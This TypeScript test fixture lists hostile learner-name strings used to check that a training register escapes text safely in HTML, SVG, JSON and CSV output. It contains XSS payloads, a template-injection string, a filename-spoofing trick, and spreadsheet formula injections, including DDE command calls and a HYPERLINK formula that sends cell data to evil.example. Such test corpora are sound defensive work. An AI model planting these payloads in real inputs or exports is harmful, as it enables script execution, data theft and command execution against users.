/**
 * Hostile text a learner could type as their name or an LMS could hand over, for the tests of
 * every place the register shows such text: HTML pages, the SVG certificate, JSON and CSV
 * exports (formula injection included). Each must come out as the same text, never as markup
 * or a live formula.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><script>alert(document.cookie)</script>',
  '</textarea></style></bdi><script>alert(1)</script>',
  '<a href="javascript:alert(1)">Ana</a>',
  'javascript:alert(1)',
  '&lt;b&gt;already escaped&lt;/b&gt; &amp;',
  ']]><script>alert(1)</script><![CDATA[',
  '<!-- Ana',
  '{{constructor.constructor("alert(1)")()}}',
  'Eve \u202Egnp.exe',
  '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'Ana\u0000Mentor\u0007',
];
